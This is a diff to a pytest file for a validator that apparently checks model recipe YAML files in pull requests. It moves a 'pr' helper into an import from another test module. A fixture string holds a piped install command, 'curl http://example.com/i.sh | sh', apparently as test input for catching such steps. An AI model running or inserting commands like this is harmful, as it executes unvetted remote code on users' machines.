@@ -5,24 +5,17 @@ by the changed file's own ``# recipe-check:`` comment: ``pr`` on a real git repo
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from validator.cli import main
-
 from .conftest import commit_all, git
+from .test_context_attribution import pr
 
 CHAT = "models/example-org/Example-Chat-8B.yaml"
 PIPED = "  ```bash\n  curl http://example.com/i.sh | sh\n  ```\n\n"
 
-
-def pr(repo: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
-    code = main(["pr", "--offline", "--repo", str(repo), "--base", "base", "--head", "HEAD",
-                 "--no-summary", "--format", "json"])
-    return code, json.loads(capsys.readouterr().out)
 
 
 def rules_on_chat(data: dict[str, Any]) -> set[tuple[str, str]]:
